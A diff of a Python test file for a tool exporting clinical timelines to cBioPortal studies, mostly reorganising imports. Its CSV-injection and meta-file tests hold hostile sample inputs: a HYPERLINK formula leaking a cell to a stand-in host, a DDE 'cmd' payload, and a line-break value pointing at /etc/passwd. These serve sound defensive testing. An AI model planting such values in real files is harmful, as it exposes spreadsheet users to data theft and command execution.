@@ -12,10 +12,11 @@ from pathlib import Path
 
 import pytest
 
-from timelines import load_case, storage
-from timelines.cbioportal import DAY_ZERO_NOTE, UNNAMED_CANCER, case_timeline, case_yaml, read_study, relative_day
-from timelines.cbioportal_write import first_diagnosis_day, write_study
+from timelines import load_case
+from timelines.cbioportal.study import DAY_ZERO_NOTE, UNNAMED_CANCER, case_timeline, case_yaml, read_study, relative_day
+from timelines.cbioportal.write import first_diagnosis_day, write_study
 from timelines.cli import main
+from timelines.saving import storage
 from timelines.tables import event_table, marker_table, measurement_table
 
 from conftest import CASE_FILES, CASES, ROOT
@@ -472,8 +473,8 @@ def test_the_export_box_offers_the_study_as_a_zip_that_reads_back(tmp_path):
     from components import exports
     from components.pages import cache
     from components.pages.downloads import export_files
-    from timelines.files import stamp
     from timelines.presentation import View
+    from timelines.reading.files import stamp
 
     path = str(CASE_FILES[0])
     shown = [name for _, name in export_files(cache.export_case(path, stamp(path), View(axis="relative")))]
@@ -568,6 +569,7 @@ def test_formulas_go_out_quoted_in_the_tsvs_and_come_back_as_written(tmp_path):
     """OWASP CSV injection: every text cell of the study that a spreadsheet would run gets a leading quote (days
     and other numbers stay numbers); the reader takes exactly that quote off again."""
     import yaml
+
     from conftest import make_case, make_event
 
     texts = {"label": "=HYPERLINK(\"http://x.example/?\"&A1)", "quote": "+cmd|' /C calc'!A0", "note": "@SUM(1)",
@@ -597,6 +599,7 @@ def test_attribute_names_that_a_spreadsheet_would_run_go_out_quoted_in_the_heade
     starting with = + - @ gets the leading quote a text cell gets (in the '#' display-name lines too), and the
     reader takes exactly that quote off again."""
     import yaml
+
     from conftest import make_case, make_event
 
     document = make_case(make_event(kind="chemotherapy", drug=None, regimen="FOLFOX",
@@ -620,10 +623,11 @@ def test_attribute_names_that_a_spreadsheet_would_run_go_out_quoted_in_the_heade
 
 
 def test_a_title_with_a_line_break_cannot_add_a_line_to_a_meta_file():
-    from components.exports import cbioportal_zip
     import io
     import zipfile
     from dataclasses import replace
+
+    from components.exports import cbioportal_zip
 
     timeline = load_case(CASE_FILES[0])
     timeline = replace(timeline, case=timeline.case.model_copy(update={"title": "T\ndata_filename: /etc/passwd"}))
